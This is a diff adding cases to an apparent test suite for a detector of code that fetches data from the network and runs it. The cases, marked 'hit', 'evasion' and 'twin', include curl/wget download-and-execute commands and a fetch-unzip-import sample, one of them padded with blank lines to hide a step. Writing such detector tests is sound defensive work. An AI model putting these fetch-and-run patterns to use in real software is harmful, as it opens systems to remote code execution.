@@ -46,6 +46,23 @@ CASES: Final = (
         f"{_OPEN}A = 'http://www.w3.org/x'\nB = 'http://localhost:1/'\nC = 'http://%s/'\nurlopen(x)\n",
     ),
     # What is fetched, kept, and run a step later.
+    Case(
+        "C3",
+        "evasion",
+        "high",
+        f"{_GET}import io, zipfile as z\nz.ZipFile(io.BytesIO(urlopen(U).read())).extractall('/tmp/q')\n"
+        "sys.path.insert(0, '/tmp/q')\nimport q\n",
+    ),
+    Case(
+        "C3",
+        "twin",
+        None,
+        f"{_GET}import io, zipfile as z\nz.ZipFile(io.BytesIO(urlopen(U).read())).extractall('/tmp/q')\n"
+        f"{chr(10) * 30}z.ZipFile(io.BytesIO(data)).extractall('/tmp/lib')\nsys.path.insert(0, '/tmp/lib')\n",
+    ),
+    Case(
+        "C3", "twin", None, f"{_GET}def f(p):\n    urlretrieve(U, p)\n    os.system(f'sha256sum {{p}}; tar xf ' + p)\n"
+    ),
     Case("C3", "hit", "high", f"{_GET}s.run(['curl', '-o', '/tmp/i', U])\ns.run(['sh', '/tmp/i'])\n"),
     Case("C3", "hit", "high", f"{_GET}s.run('wget -q ' + U + ' -O /tmp/i && chmod +x /tmp/i; /tmp/i', shell=True)\n"),
     Case(
